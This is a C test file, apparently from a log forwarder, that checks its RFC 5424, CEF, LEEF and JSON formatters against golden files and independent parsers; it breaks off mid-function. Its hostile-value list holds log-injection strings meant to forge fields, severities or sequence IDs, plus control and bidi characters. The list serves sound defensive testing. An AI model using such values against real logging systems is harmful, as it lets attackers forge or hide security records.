/*
 * test_format: the four formats.
 *
 *  - golden files: tests/data/format/NAME.txt, byte for byte (set
 *    HSS_UPDATE_EXPECTED=1 to rewrite them, then review);
 *  - hostile values: every string field the formatters use holds, in turn,
 *    each payload of a hostile set; every message is parsed back with the
 *    parsers below (written for this test, sharing no code with the
 *    formatters) and must give exactly the expected fields and values (the
 *    expected values are computed here from the documented rules), with no
 *    extra field, and no raw CR/LF where the framing forbids it;
 *  - shrinking (format.h, src/format_fit.c): over a range of
 *    max_message_size and over random events, every message fits, is
 *    valid UTF-8 and a valid message of its format (escapes, JSON), is
 *    marked exactly when it was shrunk, holds each value whole or cut (a
 *    prefix and U+2026), and keeps the identity whole when it alone fits;
 *    the exact shrunk messages of a fixture event are golden files.
 */
#include "autoconf.h"

#include <ctype.h>
#include <errno.h>
#include <math.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>
#include <cjson/cJSON.h>
#include <arpa/inet.h>
#include <sys/socket.h>

#include "config.h"
#include "event.h"
#include "format.h"
#include "format_util.h"
#include "format_fixture.h"
#include "util.h"

#define MAXF		128
#define BIG		(100 * 1024)

/* ---- a key/value list ------------------------------------------------ */

struct field {
	char	*k;
	char	*v;
	size_t	 vlen;
};
struct fields {
	struct field	 f[MAXF];
	size_t		 n;
};

static void
fields_add(struct fields *fs, const char *k, const char *v, size_t vlen)
{
	assert_true(fs->n < MAXF);
	fs->f[fs->n].k = xstrdup(k);
	fs->f[fs->n].v = xstrndup(v, vlen);
	fs->f[fs->n].vlen = vlen;
	fs->n++;
}

static void
fields_adds(struct fields *fs, const char *k, const char *v)
{
	fields_add(fs, k, v, strlen(v));
}

static void
fields_clear(struct fields *fs)
{
	size_t	 i;

	for (i = 0; i < fs->n; i++) {
		free(fs->f[i].k);
		free(fs->f[i].v);
	}
	fs->n = 0;
}

static const struct field *
fields_get(const struct fields *fs, const char *k)
{
	size_t	 i;

	for (i = 0; i < fs->n; i++)
		if (strcmp(fs->f[i].k, k) == 0)
			return &fs->f[i];
	return NULL;
}

static void
show(const char *what, const char *s, size_t len)
{
	size_t	 i;

	fprintf(stderr, "%s (%zu bytes): ", what, len);
	for (i = 0; i < len && i < 300; i++) {
		if ((unsigned char)s[i] < 0x20 || (unsigned char)s[i] >= 0x7f)
			fprintf(stderr, "\\x%02x", (unsigned char)s[i]);
		else
			fputc(s[i], stderr);
	}
	fprintf(stderr, "%s\n", len > 300 ? "..." : "");
}

/* got and want hold the same keys in the same order with the same values;
 * with prefix, each got value may be a prefix of want's and got may stop
 * early. */
static void
fields_match(const struct fields *got, const struct fields *want, int prefix,
    const char *msg, size_t msglen)
{
	size_t	 i;

	if (!prefix && got->n != want->n)
		goto bad;
	if (got->n > want->n)
		goto bad;
	for (i = 0; i < got->n; i++) {
		if (strcmp(got->f[i].k, want->f[i].k) != 0)
			goto bad;
		if (prefix ? got->f[i].vlen > want->f[i].vlen :
		    got->f[i].vlen != want->f[i].vlen)
			goto bad;
		if (memcmp(got->f[i].v, want->f[i].v, got->f[i].vlen) != 0)
			goto bad;
	}
	return;
bad:
	show("message", msg, msglen);
	for (i = 0; i < got->n || i < want->n; i++) {
		if (i < got->n)
			show(got->f[i].k, got->f[i].v, got->f[i].vlen);
		else
			fprintf(stderr, "(got nothing)\n");
		if (i < want->n)
			show(want->f[i].k, want->f[i].v, want->f[i].vlen);
		else
			fprintf(stderr, "(want nothing)\n");
	}
	fail_msg("fields differ (%zu got, %zu wanted)", got->n, want->n);
}

/* ---- expected values: UTF-8 repair, cuts, character rules ----------- */

/* Bytes of the valid UTF-8 character at p, 0 if invalid (RFC 3629). */
static size_t
u8char(const unsigned char *p, size_t avail)
{
	uint32_t	 cp;
	size_t		 n, i;

	if (p[0] < 0x80)
		return 1;
	if ((p[0] & 0xE0) == 0xC0) {
		n = 2;
		cp = p[0] & 0x1F;
	} else if ((p[0] & 0xF0) == 0xE0) {
		n = 3;
		cp = p[0] & 0x0F;
	} else if ((p[0] & 0xF8) == 0xF0) {
		n = 4;
		cp = p[0] & 0x07;
	} else
		return 0;
	if (n > avail)
		return 0;
	for (i = 1; i < n; i++) {
		if ((p[i] & 0xC0) != 0x80)
			return 0;
		cp = cp << 6 | (p[i] & 0x3F);
	}
	if ((n == 2 && cp < 0x80) || (n == 3 && cp < 0x800) ||
	    (n == 4 && cp < 0x10000) || cp > 0x10FFFF ||
	    (cp >= 0xD800 && cp <= 0xDFFF))
		return 0;
	return n;
}

static char *
fix_utf8(const char *s, size_t *outlen)
{
	const unsigned char	*p = (const unsigned char *)s;
	size_t			 len = strlen(s), i = 0, run = 0, n;
	struct buf		 b;

	buf_init(&b);
	buf_reserve(&b, len);
	while (i < len) {
		if (p[i] < 0x80) {
			i++;
			continue;
		}
		if ((n = u8char(p + i, len - i)) > 0) {
			i += n;
			continue;
		}
		buf_add(&b, p + run, i - run);
		buf_add(&b, "\xEF\xBF\xBD", 3);
		run = ++i;
	}
	buf_add(&b, p + run, i - run);
	*outlen = b.len;
	return b.data;
}

/* The longest prefix of valid UTF-8 s of at most max bytes. */
static size_t
cut_len(const char *s, size_t len, size_t max)
{
	size_t	 i = 0, n;

	while (i < len) {
		n = u8char((const unsigned char *)s + i, len - i);
		assert_true(n > 0);
		if (i + n > max)
			break;
		i += n;
	}
	return i;
}

enum rule {
	R_KEEP,		/* RFC 5424 octet counting: as is */
	R_SD_LF,	/* RFC 5424 lf: CR, LF -> the text \r, \n */
	R_CEF_HDR,	/* every control -> space */
	R_CEF_EXT,	/* controls other than CR/LF -> space */
	R_LEEF,		/* controls and the delimiter removed */
	R_ASCII,	/* RFC 5424 header field: non 33-126 char -> _ */
};

/* value -> expected decoded value: repair, cut at max bytes, rule. */
static void
expect(struct fields *fs, const char *key, const char *v, size_t max,
    enum rule r, char delim)
{
	struct buf	 b;
	char		*fixed;
	size_t		 flen, i, n;
	unsigned char	 c;

	if (v == NULL || *v == '\0')
		return;
	fixed = fix_utf8(v, &flen);
	flen = cut_len(fixed, flen, max);
	buf_init(&b);
	buf_reserve(&b, flen);
	for (i = 0; i < flen; i += n) {
		n = u8char((unsigned char *)fixed + i, flen - i);
		c = (unsigned char)fixed[i];
		if (n > 1 || (c >= 0x20 && c != 0x7f) ||
		    r == R_KEEP) {
			if (r == R_LEEF && c == (unsigned char)delim)
				continue;
			if (r == R_ASCII && (n > 1 || c == ' ' || c == 0x7f))
				buf_addc(&b, '_');
			else if (n == 1) {
				/* a run of plain ASCII */
				size_t	 e = i + 1;

				while (e < flen &&
				    (unsigned char)fixed[e] >= 0x20 &&
				    (unsigned char)fixed[e] < 0x7f &&
				    (r != R_LEEF || fixed[e] != delim) &&
				    (r != R_ASCII || fixed[e] != ' '))
					e++;
				buf_add(&b, fixed + i, e - i);
				n = e - i;
			} else
				buf_add(&b, fixed + i, n);
			continue;
		}
		switch (r) {
		case R_SD_LF:
			if (c == '\n')
				buf_adds(&b, "\\n");
			else if (c == '\r')
				buf_adds(&b, "\\r");
			else
				buf_addc(&b, (char)c);
			break;
		case R_CEF_HDR:
			buf_addc(&b, ' ');
			break;
		case R_CEF_EXT:
			buf_addc(&b, c == '\n' || c == '\r' ? (char)c : ' ');
			break;
		case R_ASCII:
			buf_addc(&b, '_');
			break;
		default:
			break;
		}
	}
	if (b.len > 0 || r != R_LEEF)
		fields_add(fs, key, b.data != NULL ? b.data : "", b.len);
	buf_free(&b);
	free(fixed);
}

static void
expect_num(struct fields *fs, const char *key, int has, int64_t v)
{
	char	 tmp[32];

	if (!has)
		return;
	snprintf(tmp, sizeof(tmp), "%lld", (long long)v);
	fields_adds(fs, key, tmp);
}

/* ---- independent parsers -------------------------------------------- */

static int
printascii(const char *s, size_t n)
{
	size_t	 i;

	for (i = 0; i < n; i++)
		if ((unsigned char)s[i] < 33 || (unsigned char)s[i] > 126)
			return 0;
	return 1;
}

/*
 * RFC 5424: header fields into hdr ("pri", "timestamp", "hostname",
 * "app", "procid", "msgid"), SD params into sd as "ID/NAME", MSG (after the
 * BOM, if any) into *msg. Returns 0 or -1 when the message is not valid.
 */
static int
parse_5424(const char *m, size_t len, struct fields *hdr, struct fields *sd,
    const char **msg, size_t *msglen)
{
	const char	*p = m, *end = m + len, *sp, *id;
	const char	*names[] = { "hostname", "app", "procid", "msgid" };
	size_t		 maxes[] = { 255, 48, 128, 32 }, i, idlen;
	struct buf	 v;
	char		 key[128];
	int		 pri;

	if (len < 4 || *p != '<')
		return -1;
	for (pri = 0, p++; p < end && *p >= '0' && *p <= '9'; p++)
		pri = pri * 10 + (*p - '0');
	if (p >= end || *p != '>' || pri > 191 || p - m > 4 ||
	    (m[1] == '0' && p - m > 2))
		return -1;
	fields_add(hdr, "pri", m + 1, (size_t)(p - m - 1));
	if (end - p < 3 || memcmp(p, ">1 ", 3) != 0)
		return -1;
	p += 3;
	/* 2022-08-27T09:37:16.627Z */
	if (end - p < 25 || p[4] != '-' || p[10] != 'T' || p[19] != '.' ||
	    p[23] != 'Z' || p[24] != ' ')
		return -1;
	fields_add(hdr, "timestamp", p, 24);
	p += 25;
	for (i = 0; i < 4; i++) {
		if ((sp = memchr(p, ' ', (size_t)(end - p))) == NULL ||
		    sp == p || (size_t)(sp - p) > maxes[i] ||
		    !printascii(p, (size_t)(sp - p)))
			return -1;
		fields_add(hdr, names[i], p, (size_t)(sp - p));
		p = sp + 1;
	}
	if (p < end && *p == '-') {
		p++;
	} else {
		while (p < end && *p == '[') {
			id = ++p;
			while (p < end && *p != ' ' && *p != ']')
				p++;
			idlen = (size_t)(p - id);
			if (idlen == 0 || idlen > 32 ||
			    !printascii(id, idlen) ||
			    memchr(id, '=', idlen) || memchr(id, '"', idlen))
				return -1;
			while (p < end && *p == ' ') {
				sp = ++p;
				while (p < end && *p != '=')
					p++;
				if (p >= end || p == sp || p - sp > 32 ||
				    !printascii(sp, (size_t)(p - sp)) ||
				    memchr(sp, ']', (size_t)(p - sp)) ||
				    memchr(sp, '"', (size_t)(p - sp)) ||
				    p + 1 >= end || p[1] != '"')
					return -1;
				snprintf(key, sizeof(key), "%.*s/%.*s",
				    (int)idlen, id, (int)(p - sp), sp);
				p += 2;
				buf_init(&v);
				buf_reserve(&v, (size_t)(end - p));
				for (; p < end && *p != '"'; p++) {
					if (*p == ']') {
						buf_free(&v);
						return -1;	/* unescaped */
					}
					if (*p == '\\' && p + 1 < end &&
					    (p[1] == '"' || p[1] == '\\' ||
					    p[1] == ']'))
						p++;
					v.data[v.len++] = *p;
				}
				v.data[v.len] = '\0';
				if (p >= end)
					return -1;
				p++;
				fields_add(sd, key, v.data, v.len);
				buf_free(&v);
			}
			if (p >= end || *p != ']')
				return -1;
			p++;
		}
	}
	*msg = NULL;
	*msglen = 0;
	if (p == end)
		return 0;
	if (*p != ' ')
		return -1;
	p++;
	if (end - p >= 3 && memcmp(p, "\xEF\xBB\xBF", 3) == 0)
		p += 3;
	*msg = p;
	*msglen = (size_t)(end - p);
	return 0;
}

/* A CEF value or header field: undo the escapes; -1 on a bad escape. */
static int
cef_unescape(const char *s, size_t n, int header, struct buf *out)
{
	size_t	 i;
	char	*o;

	buf_reset(out);
	buf_reserve(out, n);
	o = out->data;
	for (i = 0; i < n; i++) {
		if (s[i] != '\\') {
			if (!header && s[i] == '=')
				return -1;	/* unescaped '=' in a value */
			*o++ = s[i];
			continue;
		}
		if (++i >= n)
			return -1;	/* dangling backslash */
		if (s[i] == '\\')
			*o++ = '\\';
		else if (header && s[i] == '|')
			*o++ = '|';
		else if (!header && s[i] == '=')
			*o++ = '=';
		else if (!header && s[i] == 'n')
			*o++ = '\n';
		else if (!header && s[i] == 'r')
			*o++ = '\r';
		else
			return -1;
	}
	out->len = (size_t)(o - out->data);
	out->data[out->len] = '\0';
	return 0;
}

static int
iskeychar(char c)
{
	return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') ||
	    (c >= '0' && c <= '9') || c == '_';
}

/*
 * CEF: the 7 header fields into hdr ("h0".."h6"), the extension into ext.
 * A key is [A-Za-z0-9_]+ right before an unescaped '=' and after a space
 * (or at the start); the value runs up to the space before the next key.
 */
static int
parse_cef(const char *m, size_t len, struct fields *hdr, struct fields *ext)
{
	const char	*p = m, *end = m + len, *f, *k, *ke, *v, *q, *nk;
	struct buf	 u;
	char		 name[8], key[64];
	int		 i;

	if (len < 6 || memcmp(m, "CEF:0|", 6) != 0)
		return -1;
	p += 6;
	buf_init(&u);
	buf_addc(&u, '\0');
	fields_adds(hdr, "h0", "CEF:0");
	for (i = 1; i < 7; i++) {
		for (f = p; p < end && *p != '|'; p++)
			if (*p == '\\')
				p++;
		if (p >= end || p == f)
			goto fail;
		if (cef_unescape(f, (size_t)(p - f), 1, &u) == -1)
			goto fail;
		snprintf(name, sizeof(name), "h%d", i);
		fields_add(hdr, name, u.data, u.len);
		p++;
	}
	while (p < end) {
		/* key */
		for (k = p; p < end && iskeychar(*p); p++)
			;
		ke = p;
		if (ke == k || p >= end || *p != '=' || ke - k >= 64)
			goto fail;
		v = ++p;
		/* the value ends before " key=" (unescaped '=') */
		nk = end;
		for (q = v; q < end; q++) {
			if (*q == '\\') {
				q++;
				continue;
			}
			if (*q != ' ')
				continue;
			for (f = q + 1; f < end && iskeychar(*f); f++)
				;
			if (f > q + 1 && f < end && *f == '=') {
				nk = q;
				break;
			}
		}
		if (cef_unescape(v, (size_t)(nk - v), 0, &u) == -1)
			goto fail;
		snprintf(key, sizeof(key), "%.*s", (int)(ke - k), k);
		fields_add(ext, key, u.data, u.len);
		p = nk < end ? nk + 1 : end;
	}
	buf_free(&u);
	return 0;
fail:
	buf_free(&u);
	return -1;
}

/* LEEF 2.0: header fields h0..h5, attributes split by the delimiter. */
static int
parse_leef(const char *m, size_t len, struct fields *hdr, struct fields *ext)
{
	const char	*p = m, *end = m + len, *f, *eq;
	char		 name[8], delim;
	int		 i;

	for (i = 0; i < 6; i++) {
		for (f = p; p < end && *p != '|'; p++)
			;
		if (p >= end || p == f)
			return -1;
		snprintf(name, sizeof(name), "h%d", i);
		fields_add(hdr, name, f, (size_t)(p - f));
		p++;
	}
	if (strcmp(hdr->f[0].v, "LEEF:2.0") != 0)
		return -1;
	if (hdr->f[5].vlen == 1)
		delim = hdr->f[5].v[0];
	else if (hdr->f[5].vlen == 3 && hdr->f[5].v[0] == 'x')
		delim = (char)strtol(hdr->f[5].v + 1, NULL, 16);
	else
		return -1;
	while (p < end) {
		for (f = p; p < end && *p != delim; p++)
			;
		if ((eq = memchr(f, '=', (size_t)(p - f))) == NULL || eq == f)
			return -1;
		*name = '\0';
		{
			char	 key[64];

			if (eq - f >= 64)
				return -1;
			snprintf(key, sizeof(key), "%.*s", (int)(eq - f), f);
			fields_add(ext, key, eq + 1, (size_t)(p - eq - 1));
		}
		if (p < end)
			p++;
	}
	return 0;
}

/* ---- the events and contexts ---------------------------------------- */

#define BOM_LIT	"\xEF\xBB\xBF"
#define GAP_RFC5424 \
	"<163>1 2022-08-27T09:38:20.000Z collector01 hss-forwarder 12" \
	"34 gap [hss@32473 source=\"prod\" region=\"ap-southeast-1\" " \
	"project_id=\"p1\" category=\"host\" gap_begin=\"2022-08-27T0" \
	"9:37:16.000Z\" gap_end=\"2022-08-27T09:37:16.999Z\" gap_begi" \
	"n_ms=\"1661593036000\" gap_end_ms=\"1661593036999\" reason=" \
	"\"a page failed to parse (invalid JSON at offset 7); x=\\\"y" \
	"\\\"\" replay=\"hss-forwarder --replay prod --from 2022-08-2" \
	"7T09:37:16.000Z --to 2022-08-27T09:37:16.999Z\"][origin soft" \
	"ware=\"hss-forwarder\" swVersion=\"" PACKAGE_VERSION "\"][me" \
	"ta sequenceId=\"1\"] " BOM_LIT "source \"prod\": events from" \
	" 2022-08-27T09:37:16.000Z to 2022-08-27T09:37:16.999Z were n" \
	"ot read: a page failed to parse (invalid JSON at offset 7); " \
	"x=\"y\"; read them again with: hss-forwarder --replay prod -" \
	"-from 2022-08-27T09:37:16.000Z --to 2022-08-27T09:37:16.999Z"
#define GAP_CEF \
	"CEF:0|Huawei|HSS|v5|gap|gap|8|rt=1661593100000 start=1661593" \
	"036000 end=1661593036999 reason=a page failed to parse (inva" \
	"lid JSON at offset 7); x\\=\"y\" shost=collector01 cs1Label=" \
	"replay cs1=hss-forwarder --replay prod --from 2022-08-27T09:" \
	"37:16.000Z --to 2022-08-27T09:37:16.999Z cs5Label=projectId " \
	"cs5=p1 cs6Label=region cs6=ap-southeast-1 cs4Label=source cs" \
	"4=prod cn3Label=sequenceId cn3=1 msg=source \"prod\": events" \
	" from 2022-08-27T09:37:16.000Z to 2022-08-27T09:37:16.999Z w" \
	"ere not read: a page failed to parse (invalid JSON at offset" \
	" 7); x\\=\"y\"; read them again with: hss-forwarder --replay" \
	" prod --from 2022-08-27T09:37:16.000Z --to 2022-08-27T09:37:" \
	"16.999Z"
#define GAP_LEEF \
	"LEEF:2.0|Huawei|HSS|v5|gap|^|devTime=2022-08-27T09:38:20.000" \
	"Z^devTimeFormat=yyyy-MM-dd'T'HH:mm:ss.SSSX^cat=gap^sev=8^sou" \
	"rce=prod^region=ap-southeast-1^projectId=p1^category=host^id" \
	"entHostName=collector01^gapBegin=2022-08-27T09:37:16.000Z^ga" \
	"pEnd=2022-08-27T09:37:16.999Z^gapBeginMs=1661593036000^gapEn" \
	"dMs=1661593036999^reason=a page failed to parse (invalid JSO" \
	"N at offset 7); x=\"y\"^replay=hss-forwarder --replay prod -" \
	"-from 2022-08-27T09:37:16.000Z --to 2022-08-27T09:37:16.999Z" \
	"^sequence_id=1"
#define GAP_JSON \
	"{\"_hss\":{\"type\":\"gap\",\"time\":\"2022-08-27T09:38:20.0" \
	"00Z\",\"time_ms\":1661593100000,\"source\":\"prod\",\"region" \
	"\":\"ap-southeast-1\",\"project_id\":\"p1\",\"category\":\"h" \
	"ost\",\"begin\":\"2022-08-27T09:37:16.000Z\",\"begin_ms\":16" \
	"61593036000,\"end\":\"2022-08-27T09:37:16.999Z\",\"end_ms\":" \
	"1661593036999,\"reason\":\"a page failed to parse (invalid J" \
	"SON at offset 7); x=\\\"y\\\"\",\"replay\":\"hss-forwarder -" \
	"-replay prod --from 2022-08-27T09:37:16.000Z --to 2022-08-27" \
	"T09:37:16.999Z\",\"hostname\":\"collector01\",\"forwarder_ve" \
	"rsion\":\"" PACKAGE_VERSION "\",\"sequence\":1}}"

static struct output_config	 oc;
static struct format_ctx	 ctx;

static void
ctx_reset(enum output_format fmt, enum output_framing framing, int hdr)
{
	format_fixture(&oc, &ctx);
	oc.format = fmt;
	oc.framing = framing;
	oc.syslog_header = hdr;
	oc.max_message_size = 0;
}

static char *
read_data(const char *rel, size_t *len)
{
	const char	*top = getenv("srcdir");
	struct buf	 b;
	FILE		*f;
	char		*path, chunk[8192];
	size_t		 n;

	path = xasprintf("%s/tests/data/%s", top != NULL ? top : "..", rel);
	if ((f = fopen(path, "rb")) == NULL)
		fail_msg("%s: %s", path, strerror(errno));
	buf_init(&b);
	buf_addc(&b, '\0');
	buf_reset(&b);
	while ((n = fread(chunk, 1, sizeof(chunk), f)) > 0)
		buf_add(&b, chunk, n);
	fclose(f);
	free(path);
	*len = b.len;
	return b.data;
}

static struct hss_event *
official_event(void)
{
	struct event_page	 pg;
	struct hss_event	*ev;
	struct buf		 err;
	char			*body;
	size_t			 len;

	body = read_data("event/good/official-example.json", &len);
	memset(&pg, 0, sizeof(pg));
	buf_init(&err);
	assert_int_equal(event_page_parse(body, len, &pg, &err), 0);
	assert_int_equal(pg.nevents, 1);
	ev = pg.events[0];
	pg.nevents = 0;		/* keep it */
	event_page_clear(&pg);
	free(body);
	buf_free(&err);
	return ev;
}

/* ---- golden files ----------------------------------------------------- */

static void
golden(const char *name, const struct buf *got)
{
	const char	*top = getenv("srcdir");
	char		*rel, *want, *path;
	size_t		 wlen;
	FILE		*f;

	if (getenv("HSS_UPDATE_EXPECTED") != NULL) {
		path = xasprintf("%s/tests/data/format/%s.txt",
		    top != NULL ? top : "..", name);
		assert_non_null(f = fopen(path, "wb"));
		fwrite(got->data, 1, got->len, f);
		fclose(f);
		free(path);
		return;
	}
	rel = xasprintf("format/%s.txt", name);
	want = read_data(rel, &wlen);
	if (wlen != got->len || memcmp(want, got->data, wlen) != 0) {
		show("want", want, wlen);
		show("got", got->data, got->len);
		fail_msg("golden %s differs", name);
	}
	free(want);
	free(rel);
}

static const struct {
	const char		*name;
	enum output_format	 fmt;
	enum output_framing	 framing;
	int			 hdr;
} variants[] = {
	{ "rfc5424", FORMAT_RFC5424, FRAMING_OCTET_COUNTING, 0 },
	{ "rfc5424-lf", FORMAT_RFC5424, FRAMING_LF, 0 },
	{ "cef", FORMAT_CEF, FRAMING_OCTET_COUNTING, 0 },
	{ "cef-header", FORMAT_CEF, FRAMING_OCTET_COUNTING, 1 },
	{ "leef", FORMAT_LEEF, FRAMING_OCTET_COUNTING, 0 },
	{ "leef-header", FORMAT_LEEF, FRAMING_OCTET_COUNTING, 1 },
	{ "json", FORMAT_JSON, FRAMING_OCTET_COUNTING, 0 },
};

static void
test_golden(void **state)
{
	struct hss_event	*ev = official_event(), *ev2;
	struct buf		 b, err;
	struct kv		 hb[2] = { { "events_sent", "42" },
				    { "output", "siem \"main\"" } };
	char			*name;
	size_t			 i;
	int			 trunc;
	cJSON			*o;

	buf_init(&b);
	buf_init(&err);
	/* an event with a multi-line value: the lf variant differs */
	o = cJSON_Parse("{\"event_id\":\"nl-1\",\"occur_time\":1661593036627,"
	    "\"event_type\":3015,\"event_class_id\":\"cmd_3015\","
	    "\"severity\":\"Critical\",\"event_name\":\"line1\\r\\nline2\","
	    "\"host_name\":\"h]\\\"\\\\\",\"private_ip\":\"fe80::1\","
	    "\"process_info_list\":[{\"process_cmdline\":\"a=b\\tc|d\"}]}");
	assert_non_null(o);
	ev2 = event_from_json(o, &err);
	assert_non_null(ev2);
	for (i = 0; i < HSS_ARRAY_LEN(variants); i++) {
		ctx_reset(variants[i].fmt, variants[i].framing,
		    variants[i].hdr);
		oc.max_message_size = 65536;
		buf_reset(&b);
		assert_int_equal(format_event(&b, ev, &ctx, &trunc), 0);
		assert_int_equal(trunc, 0);
		name = xasprintf("official-example.%s", variants[i].name);
		golden(name, &b);
		free(name);
		buf_reset(&b);
		assert_int_equal(format_event(&b, ev2, &ctx, &trunc), 0);
		name = xasprintf("multiline.%s", variants[i].name);
		golden(name, &b);
		free(name);
		buf_reset(&b);
		assert_int_equal(format_heartbeat(&b, &ctx, 1661593036627LL,
		    hb, 2), 0);
		name = xasprintf("heartbeat.%s", variants[i].name);
		golden(name, &b);
		free(name);
	}
	hss_event_free(ev);
	hss_event_free(ev2);
	buf_free(&b);
	buf_free(&err);
}

/* ---- hostile values --------------------------------------------------- */

/* Where a test field lives in the event JSON. */
static const struct {
	const char	*list;	/* NULL: top level */
	const char	*key;
} hfields[] = {
	{ NULL, "event_id" }, { NULL, "event_name" }, { NULL, "severity" },
	{ NULL, "host_name" }, { NULL, "host_id" }, { NULL, "private_ip" },
	{ NULL, "public_ip" }, { NULL, "os_type" }, { NULL, "attack_phase" },
	{ NULL, "attack_tag" }, { NULL, "handle_status" },
	{ NULL, "handle_method" }, { NULL, "container_name" },
	{ NULL, "image_name" }, { NULL, "event_class_id" },
	{ "process_info_list", "process_name" },
	{ "process_info_list", "process_path" },
	{ "process_info_list", "process_username" },
	{ "process_info_list", "process_cmdline" },
	{ "process_info_list", "process_hash" },
	{ "user_info_list", "user_name" },
	{ "file_info_list", "file_path" },
	{ "file_info_list", "file_hash" },
	{ "ctx", "source" }, { "ctx", "region" }, { "ctx", "project_id" },
};

static const char *payloads[] = {
	"|", "\\", "=", "]", "\"", "\r", "\n", "a\r\nb", "x\\", "\\n",
	"\xff", "\xc3", "a\xc0\xaf", "\xed\xa0\x80z", "\xf4\x90\x80\x80",
	"\xf0\x9f\x98", "\t", "\x1b[31mred", "\x7f", "\x01\x02\x1f",
	"\xe2\x80\xae" "evil", "\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d",
	"\xf0\x9f\x98\x80\xf0\x9f\x91\x8d\xf0\x9f\x8f\xbd", "\xe2\x80\xa8",
	" lead and trail ", "x\\]\"=|^ y=z k2=v2", "a=b c=d", " cs1=forged",
	"^sev=10^", "CEF:0|a|b|c|d|e|10|x=y", "]\"[meta sequenceId=\"9\"]",
	"0123456789012345678901234567890123456789012345678901234567890123",
	NULL,	/* 100 KB */
};

static char *
big_value(void)
{
	static const char	 piece[] = "ab=\\|]\"^ \xf0\x9f\x98\x80\r\n"
	    "\xe4\xb8\xad\xff ";
	struct buf		 b;

	buf_init(&b);
	while (b.len < BIG)
		buf_adds(&b, piece);
	return b.data;
}

/* Build the base event with field i set to v; NULL when rejected. */
static struct hss_event *
hostile_event(size_t fi, const char *v, const char **ctxval)
{
	cJSON			*o, *l, *e;
	struct buf		 err;
	struct hss_event	*ev;
	const char		*list = hfields[fi].list;

	o = cJSON_CreateObject();
	cJSON_AddStringToObject(o, "event_id", "base-id");
	cJSON_AddNumberToObject(o, "occur_time", 1661593036627.0);
	cJSON_AddNumberToObject(o, "event_type", 4004);
	cJSON_AddNumberToObject(o, "event_count", 3);
	cJSON_AddStringToObject(o, "event_name", "base name");
	cJSON_AddStringToObject(o, "severity", "High");
	cJSON_AddStringToObject(o, "host_name", "web01");
	cJSON_AddStringToObject(o, "private_ip", "192.0.2.7");
	cJSON_AddStringToObject(o, "public_ip", "2001:db8::7");
	cJSON_AddStringToObject(o, "event_class_id", "login_1001");
	l = cJSON_AddArrayToObject(o, "process_info_list");
	e = cJSON_CreateObject();
	cJSON_AddStringToObject(e, "process_name", "sshd");
	cJSON_AddNumberToObject(e, "process_pid", 77);
	cJSON_AddItemToArray(l, e);
	l = cJSON_AddArrayToObject(o, "user_info_list");
	e = cJSON_CreateObject();
	cJSON_AddStringToObject(e, "user_name", "root");
	cJSON_AddStringToObject(e, "login_ip", "198.51.100.1");
	cJSON_AddItemToArray(l, e);
	l = cJSON_AddArrayToObject(o, "file_info_list");
	e = cJSON_CreateObject();
	cJSON_AddStringToObject(e, "file_path", "/tmp/x.sh");
	cJSON_AddItemToArray(l, e);
	*ctxval = NULL;
	if (list != NULL && strcmp(list, "ctx") == 0) {
		*ctxval = v;
		if (strcmp(hfields[fi].key, "source") == 0)
			ctx.source_name = v;
		else if (strcmp(hfields[fi].key, "region") == 0)
			ctx.region = v;
		else
			ctx.project_id = v;
	} else if (list != NULL) {
		e = cJSON_GetArrayItem(cJSON_GetObjectItem(o, list), 0);
		cJSON_DeleteItemFromObject(e, hfields[fi].key);
		cJSON_AddStringToObject(e, hfields[fi].key, v);
	} else {
		cJSON_DeleteItemFromObject(o, hfields[fi].key);
		cJSON_AddStringToObject(o, hfields[fi].key, v);
	}
	buf_init(&err);
	ev = event_from_json(o, &err);
	buf_free(&err);
	return ev;
}

static size_t
u8count(const char *s)
{
	size_t	 n = 0;

	for (; *s != '\0'; s++)
		if (((unsigned char)*s & 0xC0) != 0x80)
			n++;
	return n;
}

static int
ipv(const char *s)
{
	unsigned char	 a[16];

	if (s == NULL)
		return 0;
	if (inet_pton(AF_INET, s, a) == 1)
		return 4;
	if (inet_pton(AF_INET6, s, a) == 1)
		return 6;
	return 0;
}

/* Severity: syslog (Critical 2 .. Security 6) and CEF/LEEF (10 .. 1). */
static int
sev_of(const char *s, int cef)
{
	static const char	*names[] = { "Critical", "High", "Medium",
	    "Low", "Security" };
	static const int	 sys[] = { 2, 3, 4, 5, 6 };
	static const int	 c[] = { 10, 8, 5, 3, 1 };
	size_t			 i;

	for (i = 0; s != NULL && i < 5; i++)
		if (strcmp(s, names[i]) == 0)
			return cef ? c[i] : sys[i];
	return cef ? 3 : 5;
}

/* The fields the SD element must hold (decoded). */
static void
want_sd(struct fields *w, const struct hss_event *ev, enum rule r)
{
	const char	*id = "hss@32473/";
	char		 k[64];

#define S(name, v) do { snprintf(k, sizeof(k), "%s%s", id, name); \
	expect(w, k, (v), SIZE_MAX, r, 0); } while (0)
#define N(name, h, v) do { snprintf(k, sizeof(k), "%s%s", id, name); \
	expect_num(w, k, (h), (v)); } while (0)
	S("event_id", ev->event_id);
	N("event_type", ev->has_event_type, ev->event_type);
	S("event_name", ev->event_name);
	S("severity", ev->severity);
	S("host_name", ev->host_name);
	S("host_id", ev->host_id);
	S("private_ip", ev->private_ip);
	S("public_ip", ev->public_ip);
	S("os_type", ev->os_type);
	S("attack_phase", ev->attack_phase);
	S("attack_tag", ev->attack_tag);
	S("handle_status", ev->handle_status);
	N("event_count", ev->has_event_count, ev->event_count);
	S("container_name", ev->container_name);
	S("image_name", ev->image_name);
	S("project_id", ctx.project_id);
	S("region", ctx.region);
	S("source", ctx.source_name);
#undef S
#undef N
	fields_adds(w, "origin/software", "hss-forwarder");
	fields_adds(w, "origin/swVersion", PACKAGE_VERSION);
	fields_adds(w, "meta/sequenceId", "1");
}

static void
want_cef(struct fields *w, const struct hss_event *ev)
{
	const char	*s, *fpath, *fhash;
	enum rule	 r = R_CEF_EXT;

	expect_num(w, "rt", 1, ev->occur_time);
	expect(w, "externalId", ev->event_id, 40, r, 0);
	if (u8count(ev->event_id) > 40) {
		fields_adds(w, "flexString2Label", "eventId");
		expect(w, "flexString2", ev->event_id, 1023, r, 0);
	}
	expect_num(w, "cat", ev->has_event_type, ev->event_type);
	expect(w, "act", ev->handle_status, 63, r, 0);
	expect_num(w, "cnt", ev->has_event_count, ev->event_count);
	expect(w, "dvchost", ev->host_name, 100, r, 0);
	expect(w, "deviceExternalId", ev->host_id, 255, r, 0);
	if (ipv(ev->private_ip) == 4)
